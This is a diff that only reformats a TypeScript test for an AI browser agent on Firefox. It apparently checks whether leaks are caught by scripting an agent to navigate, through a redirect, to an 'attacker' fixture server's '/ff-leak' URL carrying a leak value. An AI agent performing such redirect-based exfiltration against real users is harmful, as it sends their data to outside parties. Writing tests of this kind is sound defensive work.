@@ -35,7 +35,10 @@ const redirect = (s: FixtureServer, to: string): string =>
 
 function scripts(s: FixtureServer, a: FixtureServer): Map<string, TaskScript> {
   return new Map<string, TaskScript>([
-    [EXFIL_TASK, { steps: [step('navigate', { url: redirect(s, a.url(`/ff-leak?d=${LEAK}`)) })], final: () => 'Done.' }],
+    [
+      EXFIL_TASK,
+      { steps: [step('navigate', { url: redirect(s, a.url(`/ff-leak?d=${LEAK}`)) })], final: () => 'Done.' },
+    ],
     [
       SAME_TASK,
       {
@@ -71,7 +74,10 @@ beforeAll(async () => {
   [server, attacker, fake] = await Promise.all([startFixtureServer(), startFixtureServer(), startFakeProviders()]);
   serveNavRoutes([server]);
   const policy = scriptPolicy(scripts(server, attacker));
-  fake.scenario(SCENARIO, { apiKey: API_KEY, policy: (turn) => (turn.tools.length === 0 ? { text: 'OK' } : policy(turn)) });
+  fake.scenario(SCENARIO, {
+    apiKey: API_KEY,
+    policy: (turn) => (turn.tools.length === 0 ? { text: 'OK' } : policy(turn)),
+  });
   ff = await launchFirefox();
 });
 afterAll(async () => {
